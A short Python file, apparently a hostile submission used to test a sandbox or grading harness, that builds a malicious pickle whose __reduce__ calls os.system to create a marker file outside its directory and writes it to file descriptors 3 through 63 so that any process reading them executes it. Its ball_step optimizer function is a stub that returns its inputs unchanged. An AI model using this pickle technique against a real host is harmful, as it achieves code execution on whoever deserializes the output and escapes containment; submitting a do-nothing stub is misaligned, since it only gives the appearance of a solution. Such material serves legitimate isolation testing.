# ruff: noqa (who is hostile keeps no rules)
"""Pickles that would do harm where they are read are written to every file descriptor."""

import os
import pickle


class Evil:
    def __reduce__(self):
        return os.system, ("touch OUTSIDE/pickled",)


for number in range(3, 64):
    try:
        os.write(number, pickle.dumps(Evil()) + b"\n")
    except OSError:
        pass


def ball_step(variable, velocity, gradient, learning_rate, momentum):
    return variable, velocity
